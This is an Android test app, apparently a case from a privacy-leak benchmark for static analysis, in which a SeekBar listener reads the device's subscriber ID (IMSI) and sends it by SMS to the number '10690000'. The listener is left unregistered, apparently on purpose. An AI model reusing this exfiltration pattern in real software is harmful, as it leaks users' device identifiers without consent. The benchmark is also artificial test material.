package cn.privlens.suite.seek_bar_not_in_page;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.widget.SeekBar;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        SeekBar bar = new SeekBar(this);
        SeekBar.OnSeekBarChangeListener listener = new SeekBar.OnSeekBarChangeListener() {
            @Override
            public void onProgressChanged(SeekBar bar, int n, boolean user) {}
            @Override
            public void onStartTrackingTouch(SeekBar bar) {}
            @Override
            public void onStopTrackingTouch(SeekBar bar) { SmsManager.getDefault().sendTextMessage("10690000", null, id, null, null); }
        };
        bar.setOnSeekBarChangeListener(null);
        bar.setTag("" + listener.hashCode());
        setContentView(bar);
    }
}
